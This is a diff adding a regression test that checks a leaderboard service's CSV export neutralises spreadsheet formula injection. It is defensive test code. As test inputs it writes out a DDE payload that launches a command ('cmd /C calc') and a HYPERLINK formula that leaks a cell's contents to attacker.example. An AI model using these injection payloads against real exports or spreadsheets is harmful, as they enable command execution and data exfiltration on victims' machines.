@@ -219,3 +219,29 @@ def test_new_accounts_wait_for_approval_when_asked(prepared, server_factory, tmp
                          env=env, capture_output=True, text=True, timeout=120)
     assert out.returncode == 0, out.stderr
     assert api_json("POST", srv.base + "/api/submissions", token, doc(GOLD, model="later"))[0] == 201
+
+
+# issue 42, finding 8: CSV export cells starting with = + - @ ran as formulas in a spreadsheet
+def test_csv_export_cells_cannot_run_as_formulas(prepared, server_factory):
+    import csv
+    import io
+
+    from glotbench.leaderboard import service
+    from glotbench.leaderboard.db import open_db
+
+    url, tokens = prepared
+    with open_db(url)() as db:
+        mallory = service.create_user(db, "mallory", "mallory-pass-1", team="@SUM(1+1)*cmd|' /C calc'!A0")
+        token = service.create_token(db, mallory)
+    srv = server_factory(url)
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    status, body, _ = api_json("POST", srv.base + "/api/submissions", token, doc(GOLD, model=evil))
+    assert status == 201, body[:200]
+    sub_id = json.loads(body)["id"]
+    assert api_json("POST", srv.base + f"/api/submissions/{sub_id}/review", tokens["admin"], {"status": "approved"})[0] == 200
+    status, raw, _ = http("GET", srv.base + "/api/export.csv")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
+    row = next(r for r in rows[1:] if "HYPERLINK" in r[0])
+    assert row[0] == "'" + evil and row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r), rows
+    assert float(row[3]) == 1.0  # numbers stay numbers
